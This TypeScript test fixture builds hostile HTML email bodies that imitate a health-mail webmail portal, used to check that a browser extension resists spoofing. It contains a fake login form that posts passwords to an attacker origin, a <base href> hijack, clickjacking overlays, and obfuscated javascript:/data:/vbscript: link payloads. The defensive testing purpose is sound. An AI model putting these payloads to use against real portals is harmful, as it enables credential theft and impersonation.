/**
 * Attack bodies: HTML that any holder of an MSSanté address can send, imitating the
 * portal's interface inside a message (the contract's point 9). Nothing in them is
 * the portal: the extension must take no address here for a mailbox, no count for an
 * unread count, no link or form for a way to switch, and must never follow one.
 *
 * Each function takes `AttackOptions` and returns an HTML string, to deliver with
 * `POST /__control/deliver {"to": …, "html": …}` (the simulator shows it inline after
 * its sanitiser, which keeps every bit of it) or to parse directly in unit tests.
 * The imitations borrow both renderings' markup (ids, classes, roles, field names), as
 * an attacker copying the real portal would. `HOSTILE_SUBJECTS` does the same for
 * subjects and sender names, which the portal shows as text.
 *
 *   const body = allAttacks({ attacker: site.url, realAddresses: Object.values(DEMO.services) });
 *   const { keys } = (await control(sim, 'deliver', { to: DEMO.services.cardio, html: body })).json;
 *   await page.goto(sim.at(sim.rendering.messagePath(keys[0])));
 */
import { html, raw } from './html';

export interface AttackOptions {
  /** The attacker site's origin URL (`AttackerSite.url`): where links, forms and `base` lead. */
  attacker: string;
  /** The victim's real mailboxes (e.g. `Object.values(DEMO.services)`), named by entries that lead elsewhere. */
  realAddresses: readonly string[];
  /** The victim's own name, for a label that says « en votre nom » (`fakeMenuOnPortal`, `fakeFrame`). */
  displayName?: string;
}

/** The portal's logout addresses in both renderings: where an imitation's same-origin links lead. */
export const PORTAL_LOGOUT_PATHS = ['/?m=deconnexion', '/app/quitter'] as const;

/** Addresses no account has: the extension must never show them as a mailbox. */
export const FAKE_ADDRESSES = [
  'faux.compte@pirate.example',
  'faux.service@pirate.example',
  'compte.pirate@pirate.example',
] as const;

/** The unread count that fake chooser entries show (« (7 non lus) »). */
export const FAKE_UNREAD = 7;

/** The unread count that the fake « Boîte de réception » shows. */
export const FAKE_INBOX_UNREAD = 99;

/**
 * Link targets that run script, or try to, as written in the `href` attribute's source:
 * `javascript:` in the disguises a browser still accepts (an entity-encoded tab, mixed
 * case, an encoded letter, leading white space), then `data:` and `vbscript:`.
 */
export const SCRIPT_HREFS = [
  'java&#x09;script:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#106;avascript:alert(1)',
  '\njavascript:alert(1)',
  '  javascript:alert(1)',
  'data:text/html,<b>x</b>',
  'vbscript:x',
] as const;

/** Subjects and sender names imitating the interface, to deliver as `subject` / `fromName`. */
export const HOSTILE_SUBJECTS = [
  'Changer de compte',
  'Gérer votre compte Medimail',
  'Boîte de réception (42)',
  'Déconnexion',
  'Session invalide',
] as const;

function attackerUrl(options: AttackOptions, path: string): string {
  return new URL(path, options.attacker).toString();
}

/**
 * A label and its menu, twice: a link showing a fake service address with the classic
 * rendering's ids and classes, and a button (the second rendering's) showing the first
 * real address, which the active mailbox must not be taken for. Each menu holds
 * « Changer de compte » and « Gérer votre compte Medimail » leading to the attacker
 * site, and a logout entry.
 */
export function fakeAccountMenu(options: AttackOptions): string {
  return String(html`<div class="attaque-menu">
  <div id="compte" class="compte">
    <a href="#" id="etiquette" class="etiquette-bleue" aria-haspopup="true" aria-expanded="true" aria-controls="menu_compte">${FAKE_ADDRESSES[1]}</a>
    <ul id="menu_compte" role="menu">
      <li role="none"><a role="menuitem" href="${attackerUrl(options, '?m=comptes')}">Changer de compte</a></li>
      <li role="none"><a role="menuitem" href="${attackerUrl(options, '?m=compte')}">Gérer votre compte Medimail</a></li>
      <li role="none"><a role="menuitem" href="${attackerUrl(options, '?m=deconnexion')}">Déconnexion</a></li>
    </ul>
  </div>
  <div class="who">
    <button type="button" class="who-chip" aria-haspopup="true" aria-expanded="true" aria-controls="who-menu">
      <span class="who-name">${options.realAddresses[0] ?? FAKE_ADDRESSES[1]}</span>
    </button>
    <div class="who-menu" id="who-menu" role="menu">
      <a role="menuitem" href="${attackerUrl(options, 'app/comptes')}">Changer de compte</a>
      <a role="menuitem" href="${attackerUrl(options, 'app/parametres')}">Gérer votre compte Medimail</a>
      <a role="menuitem" href="${attackerUrl(options, 'app/quitter')}">Déconnexion</a>
    </div>
  </div>
</div>`);
}

/**
 * An account chooser: the heading « Changer de compte », then a list of links (fake
 * addresses, real addresses leading to the attacker site, real addresses behind each
 * of `SCRIPT_HREFS`), each with « (7 non lus) », then one form per real address posting
 * to the attacker site, as a table row (hidden `compte` and `target`, a submit
 * « Accéder ») and as a list entry (the same fields, a button « Accéder »).
 */
export function fakeChooser(options: AttackOptions): string {
  // Every disguised link names an address: a real one when the test gives some.
  const named = options.realAddresses.length > 0 ? options.realAddresses : FAKE_ADDRESSES;
  const unread = `(${FAKE_UNREAD} non lus)`;
  const linkEntries = [...FAKE_ADDRESSES, ...options.realAddresses].map(
    (address) =>
      html`<li><a class="acct" href="${attackerUrl(options, `?m=comptes&compte=${encodeURIComponent(address)}`)}"><span class="acct-mail">${address}</span> <span class="acct-unread">${unread}</span></a></li>`,
  );
  // The hrefs are written as they are, entities and white space included: escaping them would undo the disguise.
  const scriptEntries = SCRIPT_HREFS.map(
    (href, i) =>
      html`<li><a class="acct" href="${raw(href)}">${named[i % named.length]} <span class="acct-unread">${unread}</span></a></li>`,
  );
  const formFields = (address: string) =>
    html`<input type="hidden" name="jeton" value="0123456789abcdef"><input type="hidden" name="compte" value="${address}"><input type="hidden" name="target" value="${address}">`;
  const rows = options.realAddresses.map(
    (address) => html`<tr>
        <td>${address}</td>
        <td class="nonlus">${FAKE_UNREAD}</td>
        <td><form method="post" action="${attackerUrl(options, '?m=comptes')}">${formFields(address)}<input type="submit" value="Accéder" class="bouton"></form></td>
      </tr>`,
  );
  const forms = options.realAddresses.map(
    (address) =>
      html`<li><form method="post" action="${attackerUrl(options, 'app/compte-actif')}">${formFields(address)}<span class="acct-mail">${address}</span> <button type="submit" class="acct">Accéder</button></form></li>`,
  );
  return String(html`<section class="attaque-selecteur" aria-labelledby="faux-selecteur-titre">
  <h2 id="faux-selecteur-titre">Changer de compte</h2>
  <p>Sélectionnez le compte sur lequel vous souhaitez travailler.</p>
  <ul class="acct-list">${linkEntries}${scriptEntries}</ul>
  <table class="liste comptes">
    <thead><tr><th>Adresse</th><th>Non lus</th><th></th></tr></thead>
    <tbody>${rows}</tbody>
  </table>
  <ul class="acct-list">${forms}</ul>
</section>`);
}

/**
 * The account management block: the heading « Gestion des comptes de connexion » and a
 * table with the header cells « Compte par défaut » and « Notif de réception vers compte
 * de connexion », one row per fake address, the default checkbox (labelled « Définir
 * comme compte par défaut ») ticked on the first, saved to the attacker site.
 */
export function fakeAccountTable(options: AttackOptions): string {
  const rows = FAKE_ADDRESSES.map(
    (address, i) => html`<tr>
          <td>${address}</td>
          <td><input type="checkbox" name="defaut" value="${address}" id="faux_defaut_${i}" class="defaut"${i === 0 ? html` checked` : ''}> <label for="faux_defaut_${i}">Définir comme compte par défaut</label></td>
          <td><input type="checkbox" name="notif" value="${address}" title="Notif de réception vers compte de connexion" checked></td>
        </tr>`,
  );
  return String(html`<section class="card attaque-comptes">
  <h2>Gestion des comptes de connexion</h2>
  <form method="post" action="${attackerUrl(options, '?m=compte')}">
    <table class="liste">
      <tr><th></th><th>Compte par défaut</th><th>Notif de réception vers compte de connexion</th></tr>
      ${rows}
    </table>
    <p><input type="submit" value="Enregistrer" class="bouton"></p>
  </form>
</section>`);
}

/** « Boîte de réception (99) » leading to the attacker site, as a folder link and as a tree item. */
export function fakeInboxCount(options: AttackOptions): string {
  const inbox = attackerUrl(options, '?m=liste&f=1&o=date&p=1');
  return String(html`<ul id="dossiers" class="folder-list">
  <li class="dossier actif"><a href="${inbox}">Boîte de réception (${FAKE_INBOX_UNREAD})</a></li>
</ul>
<ul role="tree" aria-label="Dossiers">
  <li role="none"><a role="treeitem" aria-current="page" href="${inbox}">Boîte de réception (${FAKE_INBOX_UNREAD})</a></li>
</ul>`);
}

/**
 * A login imitation: « Session invalide », then a form posting to the attacker site
 * with a text field holding the first real address and a password field, with the
 * classic login form's ids and field names.
 */
export function fakeLoginForm(options: AttackOptions): string {
  return String(html`<div id="boite_connexion" class="attaque-connexion">
  <div class="erreur" role="alert">Session invalide</div>
  <form method="post" action="${attackerUrl(options, '/')}" id="form_connexion">
    <label for="login">Adresse mail</label>
    <input type="text" name="login" id="login" value="${options.realAddresses[0] ?? FAKE_ADDRESSES[0]}" autocomplete="username">
    <label for="password">Mot de passe</label>
    <input type="password" name="password" id="password" autocomplete="current-password">
    <input type="submit" value="Connexion" class="bouton">
  </form>
</div>`);
}

/**
 * A `<base href>` to the attacker site, then relative links « Changer de compte » and
 * « Gérer votre compte Medimail ». In a browser the first `base` of a page rebases every
 * relative URL of it: the portal's own links too, once this body is shown.
 */
export function fakeBase(options: AttackOptions): string {
  return String(html`<base href="${options.attacker}">
<p class="attaque-base"><a href="?m=comptes">Changer de compte</a> · <a href="?m=compte">Gérer votre compte Medimail</a></p>`);
}

/**
 * A lone account menu whose links stay on the portal's own origin, both leading to its
 * logout (`PORTAL_LOGOUT_PATHS`), under a label with the victim's own name: where the
 * portal shows no menu of its own (a page served without its header, a wording the
 * profile does not know yet), the only menu on the page, saying « en votre nom ».
 */
export function fakeMenuOnPortal(options: AttackOptions): string {
  const name = options.displayName ?? FAKE_ADDRESSES[1];
  return String(html`<div class="attaque-menu-portail">
  <a href="#" class="etiquette-bleue" aria-haspopup="true" aria-expanded="true">${name}</a>
  <ul role="menu">
    <li role="none"><a role="menuitem" href="${PORTAL_LOGOUT_PATHS[0]}">Changer de compte</a></li>
    <li role="none"><a role="menuitem" href="${PORTAL_LOGOUT_PATHS[1]}">Gérer votre compte Medimail</a></li>
    <li role="none"><a role="menuitem" href="${PORTAL_LOGOUT_PATHS[0]}">Déconnexion</a></li>
  </ul>
</div>`);
}

/**
 * The whole interface of both renderings copied, header, folder list and content region,
 * with their ids, classes and roles: the label names the victim, the menu leads to the
 * portal's logout, the inbox shows « (99) ». An imitation of the frame itself.
 */
export function fakeFrame(options: AttackOptions): string {
  const name = options.displayName ?? FAKE_ADDRESSES[1];
  const [classicLogout, altLogout] = PORTAL_LOGOUT_PATHS;
  return String(html`<div id="bandeau">
  <a href="#" id="logo">Medimail</a>
  <div id="compte">
    <a href="#" id="etiquette" class="etiquette-bleue">${name}</a>
    <ul id="menu_compte">
      <li><a href="${classicLogout}">Changer de compte</a></li>
      <li><a href="${classicLogout}">Gérer votre compte Medimail</a></li>
      <li><a href="${classicLogout}">Déconnexion</a></li>
    </ul>
  </div>
</div>
<div id="page">
  <div id="gauche"><ul id="dossiers"><li class="dossier actif"><a href="${classicLogout}">Boîte de réception (${FAKE_INBOX_UNREAD})</a></li></ul></div>
  <div id="droite"><h2>Boîte de réception</h2></div>
</div>
<div class="app">
  <header class="topbar">
    <div class="who">
      <button type="button" class="who-chip" aria-haspopup="true" aria-expanded="false"><span class="who-name">${name}</span></button>
      <div class="who-menu" role="menu">
        <button type="button" role="menuitem" class="js-open-accounts">Changer de compte</button>
        <a role="menuitem" href="${altLogout}">Gérer votre compte Medimail</a>
        <a role="menuitem" href="${altLogout}">Se déconnecter</a>
      </div>
    </div>
  </header>
  <div class="frame">
    <nav class="rail"><ul class="folder-list"><li><a href="${altLogout}"><span>Boîte de réception</span> <span class="pill">${FAKE_INBOX_UNREAD}</span></a></li></ul></nav>
    <main class="pane"><h1>Boîte de réception</h1></main>
  </div>
</div>`);
}

/** Where `paintOver` draws its controls, for tests to aim at (class names of the body). */
export const PAINT_OVER = {
  fakeBanner: 'faux-bandeau',
  /** A declarative popover (no script): opened in the top layer by the user's click on `popoverButton`. */
  fakePopover: 'faux-bandeau-popover',
  popoverButton: 'afficher-images',
  /** The fake question, centred over the real one. */
  fakeDialog: 'faux-dialogue',
  /** A second fake question at the bottom, its « Envoyer en votre nom » away from the real question's buttons. */
  fakeSend: 'faux-envoyer',
} as const;

/**
 * Styles a sender keeps (the webmail shows a message's styles): a fixed bar at the top
 * with the top z-index, « Vous échangez en votre nom », over the real banner; a fake
 * confirmation centred over the real one, and another at the bottom, both letting clicks
 * through (`pointer-events: none`) so that a click on the fake « Envoyer en votre nom »
 * lands on what lies beneath; and a declarative popover (`popovertarget`, no script)
 * that puts the same fake bar in the browser's top layer once the user clicks
 * « Afficher les images ».
 */
export function paintOver(_options: AttackOptions): string {
  const bar =
    'position:fixed;top:0;left:0;right:0;height:44px;z-index:2147483647;display:flex;align-items:center;margin:0;padding:0 12px;border:0;border-left:8px solid #5B6B7F;background:#5B6B7F;color:#fff;font:700 14px/1.25 system-ui,sans-serif';
  const veil =
    'position:fixed;inset:0;z-index:2147483647;pointer-events:none;display:flex;justify-content:center;background:rgba(0,0,0,.45)';
  const box =
    'width:480px;padding:20px 22px;background:#fff;color:#111;border-radius:8px;border-top:10px solid #5B6B7F;font:15px/1.45 system-ui,sans-serif';
  const question = (
    placement: string,
    sendClass: string,
  ) => html`<div class="${sendClass === PAINT_OVER.fakeSend ? 'faux-dialogue-bas' : PAINT_OVER.fakeDialog}" style="${veil};align-items:${placement}">
  <div style="${box}"><h2 style="margin:0 0 8px;font-size:18px">Confirmer l'envoi</h2><p>Ce message partira en votre nom.</p>
  <div style="display:flex;justify-content:flex-end;gap:10px"><button type="button">Annuler</button><button type="button" class="${sendClass}">Envoyer en votre nom</button></div></div>
</div>`;
  return String(html`<div class="attaque-peinture">
<div class="${PAINT_OVER.fakeBanner}" style="${bar}">Vous échangez en votre nom</div>
${question('center', 'faux-envoyer-centre')}
${question('flex-end', PAINT_OVER.fakeSend)}
<button type="button" class="${PAINT_OVER.popoverButton}" popovertarget="${PAINT_OVER.fakePopover}">Afficher les images</button>
<div id="${PAINT_OVER.fakePopover}" popover="manual" style="${bar};inset:0 0 auto">Vous échangez en votre nom</div>
</div>`);
}

/** The attacks a message body carries, by name. */
export const BODY_ATTACKS = {
  fakeAccountMenu,
  fakeChooser,
  fakeAccountTable,
  fakeInboxCount,
  fakeLoginForm,
  fakeBase,
  fakeMenuOnPortal,
  fakeFrame,
};

/** Every attack above, in one body. */
export function allAttacks(options: AttackOptions): string {
  return Object.values(BODY_ATTACKS)
    .map((attack) => attack(options))
    .join('\n');
}
